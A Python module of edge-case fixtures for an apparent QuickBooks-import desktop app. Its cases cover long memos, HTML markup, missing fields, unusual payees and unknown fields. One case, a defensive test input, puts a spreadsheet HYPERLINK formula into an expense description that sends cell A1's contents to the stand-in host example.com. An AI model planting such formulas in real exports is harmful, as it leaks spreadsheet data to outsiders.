"""What real books hold besides: absent fields, odd texts, unknown fields. All of it must be survived."""

from datetime import date
from decimal import Decimal

from hardcost_desktop.demo.firm.chart import PAPER
from hardcost_desktop.demo.firm.draft import Draft, Happening
from hardcost_desktop.demo.firm.model import Record
from hardcost_desktop.demo.firm.party import Party
from hardcost_desktop.demo.firm.quickbooks import CARD, CHECK, EXPENSE, item_line, reference

MEMO_LIMIT = 4000
"""Intuit, Purchase: PrivateNote holds at most 4000 characters."""


def longest_memo(draft: Draft, day: date) -> None:
    """A memo of 4,000 characters, and lines that say nothing: the memo becomes the note."""
    text = "Per engagement letter section 4, advanced on the client's behalf. "
    _expense(draft, day, "Nettlebed Cheese Company", None, memo=(text * 99)[:MEMO_LIMIT])


def markup_in_memo(draft: Draft, day: date) -> None:
    """A memo is text, whatever it looks like."""
    _expense(
        draft,
        day,
        "Angle & Bracket Framing",
        "Copies <i>rush</i>",
        memo="<b>Do not bill</b> &amp;",
    )


def formula_in_description(draft: Draft, day: date) -> None:
    """A description that a spreadsheet would run."""
    _expense(
        draft, day, "Abacus Accounting Museum", '=HYPERLINK("https://example.com/?x="&A1,"Receipt")'
    )


def nothing_but_an_amount(draft: Draft, day: date) -> None:
    """No payee, no number, no memo, no description."""
    client = draft.enrol(Party.person("Ishaan", "Sharma-Reyes"))
    charge = draft.books.pay(CARD, day, [draft.cost("17.00", client)])
    draft.review.alone(charge)


def check_without_number(draft: Draft, day: date) -> None:
    """A check still to be printed, its number not given yet."""
    client = draft.enrol(Party("Moonrise Observatory"))
    check = draft.books.pay(
        CHECK, day, [draft.cost("21.00", client, "Copies")],
        payee="County Recorder", DocNumber=None, PrintStatus="NeedToPrint",
    )  # fmt: skip
    draft.review.together(check, client.customer)


def paid_to_a_client(draft: Draft, day: date) -> None:
    """The payee is the client, who had paid the court."""
    client = draft.enrol(Party.person("Rosalind", "Achebe"))
    payee = reference(client.customer) | {"type": "Customer"}
    check = draft.books.pay(
        CHECK, day, [draft.cost("45.00", client, "Fee advanced by client")], payee=payee
    )
    draft.review.together(check, client.customer)


def paid_to_an_employee(draft: Draft, day: date) -> None:
    """The payee is a paralegal, who had paid the parking; class and location are filled in."""
    client = draft.enrol(Party("Fjord & Heath Imports"))
    paralegal = draft.books.add_employee(Party.person("Beatriz", "Campos"))
    chart = draft.books.chart
    line = draft.cost("31.50", client, "Parking at courthouse")
    line["AccountBasedExpenseLineDetail"]["ClassRef"] = reference(chart.classes[0])
    payee = {"value": paralegal["Id"], "name": paralegal["DisplayName"], "type": "Employee"}
    check = draft.books.pay(
        CHECK, day, [line], payee=payee, DepartmentRef=reference(chart.location)
    )
    draft.review.together(check, client.customer)


def finest_amount(draft: Draft, day: date) -> None:
    """Amounts have up to five decimals (Intuit, Line: Amount); here on overhead, where it harms nobody."""
    lines = [
        draft.other("18.12345", "Utilities", "Metered cooling"),
        item_line(Decimal("42.00"), draft.books.chart.items[PAPER], description="Copy paper"),
    ]
    draft.books.pay(EXPENSE, day, lines, payee="Pacific Gas & Electric")


def unknown_line(draft: Draft, day: date) -> None:
    """A kind of line only Indian companies have, on no account."""
    unknown: Record = {
        "Amount": Decimal("-0.90"),
        "DetailType": "TDSLineDetail",
        "TDSLineDetail": {"TDSSectionTypeId": "194J"},
    }
    draft.books.pay(EXPENSE, day, [draft.other("9.00", "Bank Charges"), unknown])


def unknown_fields(draft: Draft, day: date) -> None:
    """Fields appear without notice, on every level."""
    client = draft.enrol(Party("Tomorrow Ventures"))
    line = draft.cost("52.00", client, "Filing", CustomExtensions=[{"AssociatedValues": []}])
    line["AccountBasedExpenseLineDetail"]["CarbonRef"] = {"value": "c-1"}
    extra: Record = {"SustainabilityScore": {"grams": 12}, "CustomField": []}
    check = draft.books.pay(CHECK, day, [line], payee="County Recorder", **extra)
    draft.review.together(check, client.customer)


def _expense(
    draft: Draft, day: date, name: str, what: str | None, *, memo: str | None = None
) -> None:
    client = draft.enrol(Party(name))
    expense = draft.books.pay(
        EXPENSE, day, [draft.cost("23.75", client, what)], payee="Pronto Courier", PrivateNote=memo
    )
    draft.review.alone(expense)


CASES: tuple[Happening, ...] = (
    longest_memo,
    markup_in_memo,
    formula_in_description,
    nothing_but_an_amount,
    check_without_number,
    paid_to_a_client,
    paid_to_an_employee,
    finest_amount,
    unknown_line,
    unknown_fields,
)
